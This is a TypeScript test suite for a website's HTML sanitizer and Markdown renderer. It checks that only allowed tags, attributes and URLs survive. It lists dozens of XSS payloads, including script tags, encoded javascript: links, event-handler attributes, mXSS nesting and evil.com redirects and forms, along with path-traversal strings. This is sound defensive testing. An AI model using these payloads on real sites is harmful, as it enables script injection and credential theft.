import { test } from 'node:test'
import assert from 'node:assert/strict'
import { renderMarkdown, sanitizeHtml } from '../../src/markdown/index.js'
import type { ContentKind } from '../../src/markdown/index.js'
import { checkHref, isUploadPath } from '../../src/markdown/urls.js'

// An independent oracle: every tag and attribute of the output must be on the policy's list, and
// every URL must be one the policy allows. Checked on every attack below.
const ALLOWED: Record<string, string[]> = {
  p: [], br: [], strong: [], em: [], del: [], s: [], pre: [], blockquote: [], ul: [], li: [],
  thead: [], tbody: [], tr: [], hr: [], sup: [], sub: [], table: [],
  code: ['class'], ol: ['start'], span: ['class'], abbr: ['title'], a: ['href', 'title', 'rel'],
  th: ['class', 'colspan', 'rowspan'], td: ['class', 'colspan', 'rowspan'],
  h2: ['id'], h3: ['id'], h4: ['id'], h5: ['id'], h6: ['id'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
  figure: ['class', 'data-embed-provider', 'data-embed-src'], figcaption: [],
}
const SAFE_HREF = /^(?:https?:\/\/[^\s\\]+|mailto:[^\s\\]+|\/(?![/\\])[^\s\\]*|#[^\s\\]*)$/i
const UPLOAD = /^\/uploads\/[A-Za-z0-9/_.-]+$/

function decode(value: string): string {
  return value.replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&#39;/g, "'").replace(/&amp;/g, '&')
}

function assertSafe(html: string, kind: ContentKind = 'post'): void {
  for (const tag of html.matchAll(/<(\/?)([^\s>/]+)([^>]*)>/g)) {
    const name = (tag[2] ?? '').toLowerCase()
    assert.ok(Object.hasOwn(ALLOWED, name), `tag <${name}> in ${html}`)
    if (kind === 'comment') assert.ok(!['img', 'figure', 'h2', 'h3', 'h4', 'h5', 'h6'].includes(name), `<${name}> in a comment`)
    const rest = (tag[3] ?? '').replace(/\s*\/$/, '')
    const attrs = [...rest.matchAll(/\s+([^\s=]+)(?:="([^"]*)")?/g)]
    assert.equal(attrs.map((a) => a[0]).join(''), rest, `unparseable attributes in ${tag[0]}`)
    for (const [, attr = '', raw = ''] of attrs) {
      assert.ok(ALLOWED[name]?.includes(attr), `attribute ${attr} on <${name}> in ${html}`)
      const value = decode(raw)
      if (attr === 'href') assert.match(value, SAFE_HREF)
      if (attr === 'src') assert.match(value, UPLOAD)
      if (attr === 'src') assert.ok(!value.includes('..'))
    }
  }
  assert.doesNotMatch(html, /<[^>]*(?:javascript:|vbscript:|data:)/i, 'a dangerous scheme inside a tag')
}

const ATTACKS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.com/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="/uploads/a.png" onerror="alert(1)" alt="x">',
  '<img src=x onerror=alert(1)//>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.com">x</a>',
  '<a href="/\\evil.com">x</a>',
  '<a href="\\/evil.com">x</a>',
  '<a href="/&#92;evil.com">x</a>',
  '<a href="/\t/evil.com">x</a>',
  '<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://example.com" onclick="alert(1)" target="_blank" style="color:red">x</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
  '<img src="https://evil.com/track.gif" alt="Logo">',
  '<img src="/uploads/../etc/passwd" alt="p">',
  '<img src="/uploads/a.png" srcset="https://evil.com/x.png 2x" alt="a">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="https://evil.com"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.com/x.swf"></object><embed src="https://evil.com/x.swf">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.com/x.css"><meta http-equiv="refresh" content="0;url=https://evil.com">',
  '<form action="https://evil.com"><input name="pw" type="password"><button formaction="javascript:alert(1)">Send</button></form>',
  '<base href="https://evil.com/">',
  '<div onmouseover="alert(1)">hover</div>',
  '<details open ontoggle="alert(1)">x</details>',
  '<figure data-embed-provider="youtube" data-embed-src="javascript:alert(1)"><a href="https://youtu.be/x">x</a></figure>',
  '<h2 id="x" onclick="alert(1)">h</h2>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
]

test('attacks in HTML leave only allowed tags, attributes and URLs', () => {
  for (const attack of ATTACKS) {
    for (const kind of ['post', 'comment'] as const) {
      const out = sanitizeHtml(attack, kind)
      assert.doesNotMatch(out, /<script|<iframe|<svg|<form|<input|<style|<object|<embed|<base|<meta|<link/i, attack)
      assertSafe(out, kind)
    }
  }
})

test('the same attacks as raw HTML inside Markdown are sanitized too', () => {
  for (const attack of ATTACKS) {
    assertSafe(renderMarkdown(`Tekst\n\n${attack}\n\nmer tekst`, 'post'))
    assertSafe(renderMarkdown(attack, 'comment'), 'comment')
  }
})

test('Markdown link and image tricks', () => {
  const cases = [
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '<javascript:alert(1)>',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](//evil.com)',
    '[x](/\\evil.com)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '![x](data:image/png;base64,iVBORw0KGgo=)',
    '![x](javascript:alert(1))',
    '![x](/uploads/../../etc/passwd)',
    '[![x](/uploads/a.png)](javascript:alert(1))',
  ]
  for (const md of cases) {
    assertSafe(renderMarkdown(md, 'post'))
    assertSafe(renderMarkdown(md, 'comment'), 'comment')
  }
  assert.equal(renderMarkdown('[x](javascript:alert(1))', 'post'), '<p>x</p>\n')
  assert.equal(renderMarkdown('[x](//evil.com)', 'post'), '<p>x</p>\n')
})

test('unsafe links are unwrapped, keeping their text', () => {
  assert.equal(sanitizeHtml('<p>før <a href="javascript:alert(1)">lenke</a> etter</p>', 'post'), '<p>før lenke etter</p>')
  assert.equal(sanitizeHtml('<a href="//evil.com">a</a><a href="/ok">b</a>', 'post'), 'a<a href="/ok">b</a>')
  assert.equal(sanitizeHtml('<a href="https://trondheim.kommune.no@evil.com">x</a>', 'post'), 'x')
  assert.equal(sanitizeHtml('<a name="top">anker</a>', 'post'), 'anker')
  assert.equal(sanitizeHtml('<a href="side.html">relativ</a>', 'post'), 'relativ')
})

test('allowed links: external ones get rel and lose target', () => {
  assert.equal(
    sanitizeHtml('<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="opener">x</a>', 'post'),
    '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer ugc">x</a>',
  )
  assert.equal(sanitizeHtml('<a href="/innlegg/1" rel="opener" title="T">x</a>', 'post'), '<a href="/innlegg/1" title="T">x</a>')
  assert.equal(sanitizeHtml('<a href="mailto:post@trondheim.kommune.no">x</a>', 'post'), '<a href="mailto:post@trondheim.kommune.no">x</a>')
  assert.equal(sanitizeHtml('<a href="#kontakt">x</a>', 'post'), '<a href="#kontakt">x</a>')
})

test('images: only our uploads; others become their alt text or disappear', () => {
  assert.equal(
    sanitizeHtml('<img src="/uploads/2024/a_b-c.png" alt="Kart" width="640" height="auto" title="t" loading="eager">', 'post'),
    '<img src="/uploads/2024/a_b-c.png" loading="lazy" alt="Kart" width="640" />',
  )
  assert.equal(sanitizeHtml('<img src="https://evil.com/x.png" alt="Logo">', 'post'), '<span class="missing-image">Logo</span>')
  assert.equal(sanitizeHtml('<img src="/uploads/../etc/passwd" alt="p">', 'post'), '<span class="missing-image">p</span>')
  assert.equal(sanitizeHtml('<img src="/uploads/a.png?x=1" alt="q">', 'post'), '<span class="missing-image">q</span>')
  assert.equal(sanitizeHtml('<p>a<img src="data:image/png;base64,AAAA">b</p>', 'post'), '<p>ab</p>')
  assert.equal(sanitizeHtml('<p>a<img src="https://evil.com/x.png" alt="<b>x</b>">b</p>', 'post'), '<p>a<span class="missing-image">&lt;b&gt;x&lt;/b&gt;</span>b</p>')
})

test('headings: h1 becomes h2, ids only as slugs', () => {
  assert.equal(sanitizeHtml('<h1>Tittel</h1>', 'post'), '<h2>Tittel</h2>')
  assert.equal(sanitizeHtml('<h3 id="om-oss">Om</h3>', 'post'), '<h3 id="om-oss">Om</h3>')
  assert.equal(sanitizeHtml('<h3 id="main_content">Om</h3>', 'post'), '<h3>Om</h3>')
  assert.equal(sanitizeHtml('<h3 id="Om oss">Om</h3>', 'post'), '<h3>Om</h3>')
  assert.equal(sanitizeHtml('<p id="x" class="y">t</p>', 'post'), '<p>t</p>')
})

test('tables keep alignment as a class, never as style', () => {
  assert.equal(
    sanitizeHtml('<table><tr><th align="CENTER" style="color:red">a</th><td class="evil align-right" colspan="2">b</td></tr></table>', 'post'),
    '<table><tr><th class="align-center">a</th><td class="align-right" colspan="2">b</td></tr></table>',
  )
})

test('comments: no headings, images or embeds', () => {
  assert.equal(sanitizeHtml('<h1>A</h1><h3 id="b">B</h3>', 'comment'), '<p>A</p><p>B</p>')
  assert.equal(sanitizeHtml('<p><img src="/uploads/a.png" alt="Bilde"></p>', 'comment'), '<p><span>Bilde</span></p>')
  assert.equal(sanitizeHtml('<p>a<img src="/uploads/a.png">b</p>', 'comment'), '<p>ab</p>')
  assert.equal(
    sanitizeHtml('<figure class="embed" data-embed-provider="youtube" data-embed-src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"><a href="https://youtu.be/dQw4w9WgXcQ">v</a></figure>', 'comment'),
    '<a href="https://youtu.be/dQw4w9WgXcQ" rel="noopener noreferrer ugc">v</a>',
  )
})

test('content of script-like elements is dropped, not shown as text', () => {
  assert.equal(sanitizeHtml('<p>a</p><script>alert(1)</script><style>p{}</style><textarea>t</textarea>', 'post'), '<p>a</p>')
  assert.equal(sanitizeHtml('<p>a</p><iframe>fallback</iframe><noscript>n</noscript>', 'post'), '<p>a</p>')
})

test('other tags are dropped but their text kept and escaped', () => {
  assert.equal(sanitizeHtml('<div><font color="red">hei</font></div>', 'post'), 'hei')
  assert.equal(sanitizeHtml('<p>1 &lt; 2 &amp; <b>x</b></p>', 'post'), '<p>1 &lt; 2 &amp; x</p>')
})

test('sanitizing is idempotent, so re-rendering stored HTML changes nothing', () => {
  const md = '# T\n\nTekst [a](https://example.com) ![b](/uploads/b.png) ![c](https://x.no/c.png)\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\nhttps://youtu.be/dQw4w9WgXcQ\n'
  for (const kind of ['post', 'comment'] as const) {
    const once = renderMarkdown(md, kind)
    assert.equal(sanitizeHtml(once, kind), once)
  }
})

// sanitize-html's own scheme check catches many of these too; test our rule without that second layer.
test('checkHref on its own', () => {
  for (const bad of [
    '//evil.com', '/\\evil.com', '\\/evil.com', '/\t/evil.com', '/ /evil.com', 'java\tscript:alert(1)', 'javascript:alert(1)',
    ' JAVASCRIPT:alert(1)', 'vbscript:x', 'data:text/html,x', 'file:///etc/passwd', 'tel:+4773830000', 'side.html',
    '?q=1', 'https://', 'https://user:pw@evil.com', 'https://a\u2028b.no', '', undefined,
  ]) {
    assert.equal(checkHref(bad), undefined, String(bad))
  }
  assert.deepEqual(checkHref(' https://example.com/a '), { href: 'https://example.com/a', external: true })
  assert.deepEqual(checkHref('HTTP://example.com'), { href: 'HTTP://example.com', external: true })
  assert.deepEqual(checkHref('/innlegg/a?b=1#c'), { href: '/innlegg/a?b=1#c', external: false })
  assert.deepEqual(checkHref('#kontakt'), { href: '#kontakt', external: false })
  assert.deepEqual(checkHref('mailto:post@trondheim.kommune.no'), { href: 'mailto:post@trondheim.kommune.no', external: false })
})

test('isUploadPath', () => {
  assert.equal(isUploadPath('/uploads/2024/05/bilde_1-a.webp'), true)
  for (const bad of ['/uploads/../x.png', '/uploads/a/../../x', '/uploads/', '/upload/a.png', '//uploads/a.png', '/uploads/a b.png', '/uploads/a.png?x', 'https://x.no/uploads/a.png', undefined]) {
    assert.equal(isUploadPath(bad), false, String(bad))
  }
})
